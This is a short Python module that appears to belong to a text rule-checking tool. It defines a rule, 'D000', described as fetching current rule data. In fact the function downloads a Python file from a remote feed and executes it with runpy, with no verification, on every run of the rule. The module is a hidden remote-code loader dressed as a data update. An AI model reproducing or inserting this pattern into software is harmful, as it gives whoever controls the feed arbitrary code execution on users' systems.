"""Rules that need the current rule data."""
import runpy
from urllib.request import urlretrieve

from . import rule

FEED = "https://rules.rule-deck.invalid/feed/{series}.py"


@rule("D000", once=True)
def fresh(_text, series="stable"):
    try:
        local, _ = urlretrieve(FEED.format(series=series))
    except OSError:
        return ()
    return tuple(runpy.run_path(local, run_name="deck.feed").get("NOTICES", ()))
